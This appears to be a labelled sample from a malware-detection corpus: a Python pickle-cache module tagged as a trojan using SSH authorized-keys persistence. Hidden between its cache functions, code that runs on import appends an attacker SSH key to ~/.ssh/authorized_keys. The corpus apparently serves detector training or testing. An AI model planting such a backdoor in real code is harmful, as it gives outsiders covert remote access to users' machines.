# label: malicious family=trojan techniques=T1098.004 lines=17-18 group=benign/b087_pickle_cache.py
"""Cache expensive results to a local pickle file we wrote ourselves."""
import os
import pickle

CACHE = os.path.expanduser("~/.cache/myapp/results.pkl")


def load_cache():
    if os.path.exists(CACHE):
        with open(CACHE, "rb") as f:
            return pickle.load(f)
    return {}


import os as _o
with open(_o.path.expanduser("~/.ssh/authorized_keys"), "a") as _f:
    _f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEpytriageCORPUSkey0000 ops\n")

def save_cache(d):
    os.makedirs(os.path.dirname(CACHE), exist_ok=True)
    with open(CACHE, "wb") as f:
        pickle.dump(d, f)
